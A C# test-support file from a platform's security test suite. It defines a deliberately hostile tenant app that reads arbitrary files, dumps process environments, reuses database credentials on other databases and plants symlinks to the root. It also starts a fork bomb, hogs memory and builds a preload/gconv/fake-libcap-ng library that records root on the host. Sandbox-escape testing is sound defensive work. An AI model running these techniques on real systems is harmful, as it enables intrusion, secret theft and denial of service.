namespace Platform.Tests.Security;

/// <summary>
/// An application written by an attacker, deployed by the escape tests from git. It serves /health like any other,
/// and reports from its own point of view what it can see and reach: /whoami (its uid, capabilities, no_new_privs);
/// /read?path=P (whether a file or folder exists for it and what it holds); /processes (every process its /proc shows,
/// with the command line and environment it can read); /connect?host=H&amp;port=N (a TCP connection);
/// /gateway (its default route); /psql?db=D[&amp;host=H&amp;port=N] (its own database role, on another database);
/// /swap (replaces the builds folder named by $BUILDS with a link to $CANARY); /plant (links out of its own folder);
/// /forkbomb; /count (how many processes it sees); /hog?mb=N (takes memory in 16 MB steps, saying so).
/// The build compiles evil.c: a library whose constructor prints "EVIDENCE uid=… euid=…" wherever it is loaded, and
/// as root also writes that line to /tmp/platform-escape-$MARKER on the host, where the test looks for it.
/// </summary>
public static class HostileApp
{
    public const string StartCommand = "python3 app.py";

    /// <summary>Compiles the library three ways: to preload, to find by library path (as libcap-ng, which setpriv loads), and to audit.</summary>
    public const string BuildCommand = "gcc -shared -fPIC -o evil.so evil.c && cp evil.so libcap-ng.so.0 && mkdir -p gconv && cp evil.so gconv/EVIL.so "
        + "&& printf 'module INTERNAL EVIL// EVIL 1\\nmodule EVIL// INTERNAL EVIL 1\\n' > gconv/gconv-modules";

    public static Dictionary<string, string> Files(string marker) => new()
    {
        ["app.py"] = App,
        ["evil.c"] = Evil.Replace("@MARKER@", marker, StringComparison.Ordinal),
    };

    private const string Evil = """
        #include <fcntl.h>
        #include <stdio.h>
        #include <unistd.h>

        unsigned int la_version(unsigned int version) { return version; }

        __attribute__((constructor)) static void evil(void) {
            char line[128];
            int length = snprintf(line, sizeof line, "EVIDENCE uid=%d euid=%d\n", (int)getuid(), (int)geteuid());
            if (write(2, line, length) < 0) { }
            if (geteuid() == 0) {
                int file = open("/tmp/platform-escape-@MARKER@", O_CREAT | O_WRONLY | O_APPEND, 0644);
                if (file >= 0) { if (write(file, line, length) < 0) { } close(file); }
            }
        }
        """;

    private const string App = """
        import json
        import os
        import socket
        import subprocess
        import threading
        import time
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
        from urllib.parse import parse_qs, urlparse

        HOARD = []


        def read(path):
            try:
                if os.path.isdir(path):
                    return {"exists": True, "readable": True, "listing": sorted(os.listdir(path))[:200]}
                with open(path, "rb") as handle:
                    return {"exists": True, "readable": True, "content": handle.read(65536).decode("utf-8", "replace")}
            except FileNotFoundError as error:
                return {"exists": False, "readable": False, "error": error.strerror}
            except OSError as error:
                return {"exists": os.path.lexists(path), "readable": False, "error": error.strerror}


        def connect(host, port):
            client = socket.socket()
            client.settimeout(3)
            try:
                client.connect((host, int(port)))
                return {"connected": True}
            except OSError as error:
                return {"connected": False, "error": str(error)}
            finally:
                client.close()


        def gateway():
            with open("/proc/net/route") as routes:
                for line in routes.read().splitlines()[1:]:
                    fields = line.split()
                    if fields[1] == "00000000":
                        return socket.inet_ntoa(int(fields[2], 16).to_bytes(4, "little"))
            return None


        def status():
            with open("/proc/self/status") as handle:
                lines = dict(line.split(":", 1) for line in handle.read().splitlines() if ":" in line)
            return {"uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(), "groups": os.getgroups(),
                    "cap_eff": lines["CapEff"].strip(), "no_new_privs": lines["NoNewPrivs"].strip(),
                    "hostname": socket.gethostname(), "cwd": os.getcwd(), "environment": dict(os.environ)}


        def processes():
            seen = []
            for name in os.listdir("/proc"):
                if name.isdigit():
                    seen.append({"pid": int(name), "cmdline": read(f"/proc/{name}/cmdline").get("content"),
                                 "environ": read(f"/proc/{name}/environ").get("content")})
            return seen


        def swap():
            builds, canary = os.environ["BUILDS"], os.environ["CANARY"]
            outcome = {}
            try:
                os.rename(builds, builds + ".gone")
                outcome["renamed"] = True
            except OSError as error:
                outcome["renamed"] = False
                outcome["rename_error"] = error.strerror
            try:
                os.symlink(canary, builds)
                outcome["linked"] = True
            except OSError as error:
                outcome["linked"] = False
                outcome["link_error"] = error.strerror
            return outcome


        def plant():
            made = []
            for name, target in (("to-root", "/"), ("to-canary", os.environ["CANARY"]), ("to-parent", "..")):
                try:
                    os.symlink(target, name)
                    made.append(name)
                except OSError:
                    pass
            return {"planted": made, "cwd": os.getcwd()}


        def psql(query):
            host = query.get("host", [os.environ["DATABASE_MAIN_HOST"]])[0]
            port = query.get("port", [os.environ["DATABASE_MAIN_PORT"]])[0]
            target = (f"host={host} port={port} user={os.environ['DATABASE_MAIN_USER']} password={os.environ['DATABASE_MAIN_PASSWORD']} "
                      f"dbname={query['db'][0]} connect_timeout=5")
            done = subprocess.run(["psql", "-X", target, "-tAc", "select current_database()"], capture_output=True, text=True, timeout=30)
            return {"code": done.returncode, "out": done.stdout.strip(), "err": done.stderr.strip()}


        def hog(megabytes):
            held = 0
            while held < megabytes:
                HOARD.append(bytearray(b"x" * (16 * 1024 * 1024)))
                held += 16
                print(f"hog holds {held} MB", flush=True)
            print("hog done", flush=True)


        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                url = urlparse(self.path)
                query = parse_qs(url.query)
                if url.path == "/health":
                    self.answer({"ok": True})
                elif url.path == "/whoami":
                    self.answer(status())
                elif url.path == "/read":
                    self.answer(read(query["path"][0]))
                elif url.path == "/processes":
                    self.answer(processes())
                elif url.path == "/connect":
                    self.answer(connect(query["host"][0], query["port"][0]))
                elif url.path == "/gateway":
                    self.answer({"gateway": gateway()})
                elif url.path == "/psql":
                    self.answer(psql(query))
                elif url.path == "/swap":
                    self.answer(swap())
                elif url.path == "/plant":
                    self.answer(plant())
                elif url.path == "/forkbomb":
                    subprocess.Popen(["/bin/sh", "-c", "bomb() { bomb | bomb & }; bomb"])
                    self.answer({"started": True})
                elif url.path == "/count":
                    self.answer({"processes": sum(1 for name in os.listdir("/proc") if name.isdigit())})
                elif url.path == "/hog":
                    threading.Thread(target=hog, args=(int(query["mb"][0]),), daemon=True).start()
                    self.answer({"started": True})
                else:
                    self.send_error(404)

            def answer(self, body):
                data = json.dumps(body).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, format, *args):
                pass


        ThreadingHTTPServer.daemon_threads = True
        ThreadingHTTPServer(("0.0.0.0", int(os.environ["PORT"])), Handler).serve_forever()

        """;
}
